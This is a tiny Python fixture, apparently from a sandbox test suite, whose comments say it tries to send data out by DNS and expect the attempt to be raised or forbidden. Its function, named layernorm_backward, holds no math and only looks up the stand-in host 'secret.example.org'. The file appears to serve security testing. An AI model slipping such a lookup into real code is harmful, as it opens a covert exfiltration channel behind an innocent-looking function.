# tries: send data out by DNS
# item: DNS
# outcome: raised | forbidden
import socket


def layernorm_backward(x, gamma, dy, eps):
    socket.gethostbyname("secret.example.org")
